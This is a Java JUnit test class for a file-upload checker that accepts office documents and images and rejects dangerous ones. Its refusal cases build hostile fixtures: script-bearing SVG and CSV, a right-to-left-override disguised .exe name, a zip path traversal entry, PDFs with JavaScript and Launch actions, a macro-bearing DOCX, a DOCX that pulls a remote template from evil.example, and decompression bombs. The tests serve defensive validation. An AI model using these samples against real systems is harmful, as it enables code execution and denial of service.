package anlan.ground.intake;

import static org.assertj.core.api.Assertions.assertThat;

import anlan.AnlanTest;
import anlan.ground.vault.Vault;
import anlan.ground.web.Refusals;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

@AnlanTest
class ExaminationTest {

    private static final byte[] WEBP =
            Base64.getDecoder().decode("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA");

    @Autowired
    private Examination examination;

    @Autowired
    private Vault vault;

    static Stream<Arguments> taken() {
        return Stream.of(
                Arguments.of("现场.jpg", Photos.plain("jpeg", 40, 30), Kind.JPEG, "现场.jpg"),
                Arguments.of("现场.JPEG", Photos.fromPhone(40, 30, 6), Kind.JPEG, "现场.jpg"),
                Arguments.of("截图.png", Photos.plain("png", 40, 30), Kind.PNG, "截图.png"),
                Arguments.of("微信.webp", WEBP, Kind.JPEG, "微信.jpg"),
                Arguments.of("通报.pdf", Papers.pdf(), Kind.PDF, "通报.pdf"),
                Arguments.of("说明.docx", Papers.docx(), Kind.DOCX, "说明.docx"),
                Arguments.of("台账.xlsx", Papers.xlsx(), Kind.XLSX, "台账.xlsx"),
                Arguments.of("通知.ofd", Papers.ofd(), Kind.OFD, "通知.ofd"),
                Arguments.of("发票.ofd", Papers.ofd("Doc_0/Attachs/invoice.xml"), Kind.OFD, "发票.ofd"),
                Arguments.of("说明.txt", "整改说明\r\n".getBytes(Charset.forName("GB18030")), Kind.TEXT, "说明.txt"),
                Arguments.of("表.csv", "编号,名称\n1,甲\n".getBytes(StandardCharsets.UTF_8), Kind.CSV, "表.csv"),
                Arguments.of("没有扩展名", Papers.pdf(), Kind.PDF, "没有扩展名.pdf"));
    }

    @ParameterizedTest
    @MethodSource("taken")
    void what_an_office_sends_is_taken(String name, byte[] content, Kind kind, String kept) throws IOException {
        var refusals = new Refusals();
        try (var arrival = arrival(name, content, refusals);
                var examined = examination.of(arrival, refusals)) {
            assertThat(refusals.all()).isEmpty();
            assertThat(examined.kind()).isEqualTo(kind);
            assertThat(examined.name()).isEqualTo(kept);
            if (!kind.picture()) {
                assertThat(examined.content()).hasBinaryContent(content);
            }
        }
    }

    static Stream<Arguments> refused() throws IOException {
        var svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
        return Stream.of(
                Arguments.of("a.jpg", Papers.pdf(), FileFault.NAME_AND_CONTENT_DIFFER),
                Arguments.of("a.pdf", Photos.plain("png", 4, 4), FileFault.NAME_AND_CONTENT_DIFFER),
                Arguments.of("照片\u202Egpj.exe", Photos.plain("jpeg", 4, 4), FileFault.NAME_AND_CONTENT_DIFFER),
                Arguments.of("a.svg", bytes(svg), FileFault.MARKUP),
                Arguments.of("a.png", bytes("<?xml version='1.0'?>" + svg), FileFault.MARKUP),
                Arguments.of("a.txt", bytes("<!DOCTYPE html><html><body>x</body></html>"), FileFault.MARKUP),
                Arguments.of("a.csv", bytes("a,b\n<script>alert(1)</script>\n"), FileFault.MARKUP),
                Arguments.of("a.exe", bytes("MZ\u0090\0\3\0\0\0\4\0"), FileFault.KIND_UNKNOWN),
                Arguments.of("a.txt", new byte[] {1, 2, 3, 0, 5, 6, 7}, FileFault.TEXT_UNREADABLE),
                Arguments.of("a.zip", Papers.parcel(Map.of("x", bytes("x"))), FileFault.ARCHIVE),
                Arguments.of("a.png", Photos.bomb(60_000, 60_000), FileFault.PICTURE_TOO_LARGE),
                Arguments.of("a.pdf", Papers.pdfThat("JavaScript"), FileFault.PDF_ACTIVE),
                Arguments.of("a.pdf", Papers.pdfThat("Launch"), FileFault.PDF_ACTIVE),
                Arguments.of("a.pdf", carrying(), FileFault.PDF_CARRIES),
                Arguments.of("a.pdf", locked(), FileFault.PDF_LOCKED),
                Arguments.of("a.pdf", both(Papers.pdf(), Papers.docx()), FileFault.PDF_BROKEN),
                Arguments.of("a.docx", both(Papers.docx(), bytes("stray")), FileFault.PARCEL_ODD),
                Arguments.of("a.docx", Papers.with(Papers.docx(), "../../evil.xml", "x"), FileFault.PARCEL_ODD),
                Arguments.of("a.docx", macros(), FileFault.OFFICE_ACTIVE),
                Arguments.of("a.docx", reachingOut(), FileFault.OFFICE_REACHES_OUT),
                Arguments.of("a.docx", bomb(), FileFault.PARCEL_BOMB),
                Arguments.of("a.ofd", Papers.ofd("Doc_0/Attachs/tool.exe"), FileFault.OFD_CARRIES),
                Arguments.of(
                        "a.doc",
                        bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(600)),
                        FileFault.OLD_OFFICE));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void what_is_not_what_it_says_or_acts_is_refused(String name, byte[] content, FileFault why) throws IOException {
        var refusals = new Refusals();
        try (var arrival = arrival(name, content, refusals)) {
            assertThat(examination.of(arrival, refusals)).isNull();
            assertThat(refusals.all())
                    .singleElement()
                    .satisfies(r -> assertThat(r.reason()).isEqualTo(why));
        }
    }

    @Test
    void nothing_is_left_lying_of_what_was_looked_at() throws IOException {
        var folder = vault.draft().getParent();
        var before = count(folder);
        what_is_not_what_it_says_or_acts_is_refused("a.png", Photos.bomb(60_000, 60_000), FileFault.PICTURE_TOO_LARGE);
        what_an_office_sends_is_taken("现场.jpg", Photos.plain("jpeg", 40, 30), Kind.JPEG, "现场.jpg");
        assertThat(Arrival.of(new ByteArrayInputStream(new byte[0]), "a.jpg", 1, vault, new Refusals()))
                .isNull();
        assertThat(count(folder)).isEqualTo(before);
    }

    @Test
    void a_file_that_is_too_large_is_read_no_further_than_the_limit() throws IOException {
        var endless = new java.io.InputStream() {
            private long given;

            @Override
            public int read() {
                given++;
                return 'x';
            }
        };
        var refusals = new Refusals();
        assertThat(Arrival.of(endless, "a.txt", 1, vault, refusals)).isNull();
        assertThat(refusals.all().getFirst().reason()).isEqualTo(FileFault.FILE_TOO_BIG);
        assertThat(endless.given).isLessThan(2 << 20);
    }

    private Arrival arrival(String name, byte[] content, Refusals refusals) throws IOException {
        return Arrival.of(new ByteArrayInputStream(content), name, 50, vault, refusals);
    }

    private static long count(java.nio.file.Path folder) throws IOException {
        try (var all = Files.list(folder)) {
            return all.count();
        }
    }

    private static byte[] carrying() {
        return Papers.pdf(pdf -> {
            var file = new COSDictionary();
            file.setItem(COSName.EF, new COSDictionary());
            pdf.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Extra"), file);
        });
    }

    private static byte[] locked() throws IOException {
        try (var pdf = new PDDocument()) {
            pdf.addPage(new org.apache.pdfbox.pdmodel.PDPage());
            pdf.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
            var out = new ByteArrayOutputStream();
            pdf.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] macros() {
        var types = Papers.part(Papers.docx(), OfficeCheck.TYPES)
                .replace(
                        "</Types>",
                        "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
        return Papers.with(Papers.with(Papers.docx(), OfficeCheck.TYPES, types), "word/vbaProject.bin", "x");
    }

    private static byte[] reachingOut() {
        return Papers.with(Papers.docx(), "word/_rels/settings.xml.rels", """
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                 Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>""");
    }

    private static byte[] bomb() {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put(OfficeCheck.TYPES, bytes(Papers.part(Papers.docx(), OfficeCheck.TYPES)));
        parts.put("word/document.xml", new byte[80 << 20]);
        return Papers.parcel(parts);
    }

    private static byte[] both(byte[] one, byte[] other) {
        var both = new ByteArrayOutputStream();
        both.writeBytes(one);
        both.writeBytes(other);
        return both.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(
                text.startsWith("\u00d0") || text.startsWith("MZ")
                        ? StandardCharsets.ISO_8859_1
                        : StandardCharsets.UTF_8);
    }
}
